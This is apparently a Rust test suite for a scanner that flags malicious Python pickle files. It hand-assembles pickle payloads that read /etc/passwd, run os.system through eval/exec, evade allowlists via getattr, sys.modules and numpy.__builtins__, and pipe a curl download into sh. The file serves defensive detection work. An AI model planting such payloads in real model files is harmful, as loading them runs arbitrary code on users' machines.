//! Judge behaviours built from small hand-assembled pickles (protocol 0: readable bytes).
#![allow(clippy::indexing_slicing)]

use modelguard::Scanner;
use modelguard::report::{Severity, Status, Verdict};

fn scan(p: &[u8]) -> modelguard::report::FileReport {
    Scanner::default().scan_bytes("x.pkl", p)
}

#[test]
fn arguments_matter_for_file_reads() {
    let outside = scan(b"c__builtin__\nopen\n(S'/etc/passwd'\ntR.");
    let inside = scan(b"c__builtin__\nopen\n(S'notes.txt'\ntR.");
    assert_eq!(outside.max_severity(), Some(Severity::High), "{outside:?}");
    assert!(outside.findings[0].message.contains("outside the model"));
    assert_eq!(inside.max_severity(), Some(Severity::Medium), "{inside:?}");
}

#[test]
fn eval_is_judged_by_its_code() {
    // Inert code: no capability, but no serialiser writes a direct eval (docs/severity.md).
    let inert = scan(b"c__builtin__\neval\n(S'1+1'\ntR.");
    assert_eq!(inert.verdict, Verdict::Suspicious, "{inert:?}");
    assert_eq!(inert.max_severity(), Some(Severity::Medium));
    let evil = scan(b"c__builtin__\neval\n(S\"__import__('os').system('id')\"\ntR.");
    assert_eq!(evil.max_severity(), Some(Severity::Critical));
    assert!(
        evil.findings
            .iter()
            .any(|f| f.message.contains("os.system"))
    );
}

/// `getattr(len, '__self__')` is the builtins module: `exec` reached through it is judged
/// as `builtins.exec`, with its code parsed.
#[test]
fn builtin_self_is_the_module() {
    let r = scan(
        b"cbuiltins\ngetattr\n(cbuiltins\ngetattr\n(cbuiltins\nlen\nS'__self__'\ntRS'exec'\ntR\
          (S\"__import__('os').system('echo hi')\"\ntR.",
    );
    assert_eq!(r.max_severity(), Some(Severity::Critical), "{r:?}");
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule == "MG-PKL-PROC" && f.message.contains("os.system")),
        "{:?}",
        r.findings
    );
}

/// `sys.modules['os']`, `sys.modules.get('os')`, `os.__dict__['system']`,
/// `f.__globals__.get('system')` and `numpy.__builtins__['exec']` resolve to the module or
/// name they look up, so the call is judged as `os.system` (through exec's code, last).
#[test]
fn module_tables_resolve() {
    for p in [
        &b"cbuiltins\ngetattr\n(coperator\ngetitem\n(csys\nmodules\nS'os'\ntRS'system'\ntR(S'echo hi'\ntR."[..],
        b"cbuiltins\ngetattr\n(csys\nmodules.get\n(S'os'\ntRS'system'\ntR(S'echo hi'\ntR.",
        b"\x80\x04\x8c\x08operator\x8c\x07getitem\x93\x8c\x02os\x8c\x08__dict__\x93\x8c\x06system\x86R\x8c\x07echo hi\x85R.",
        b"cbuiltins\ngetattr\n(cos\n_wrap_close.__init__.__globals__\nS'get'\ntR(S'system'\ntR(S'echo hi'\ntR.",
        // numpy.__builtins__['exec'] (modelscan#330 reaches it through an allowlisted module)
        b"\x80\x04\x8c\x08operator\x8c\x07getitem\x93\x8c\x05numpy\x8c\x0c__builtins__\x93\x8c\x04exec\x86R\x8c\x1b__import__('os').system('')\x85R.",
    ] {
        let r = scan(p);
        assert!(
            r.findings.iter().any(|f| f.rule == "MG-PKL-PROC"
                && f.severity == Severity::Critical
                && f.message.contains("os.system")),
            "{:?}",
            r.findings
        );
    }
}

#[test]
fn unparseable_code_is_incomplete_not_safe() {
    let r = scan(b"c__builtin__\nexec\n(S'def ('\ntR.");
    assert_eq!(r.status, Status::Incomplete, "{r:?}");
    assert_ne!(r.verdict, Verdict::Safe);
}

#[test]
fn shell_pipelines_are_named() {
    let r = scan(b"cos\nsystem\n(S'curl http://x | sh'\ntR.");
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule == "MG-PKL-PROC" && f.message.contains("shell pipeline")),
        "{r:?}"
    );
}
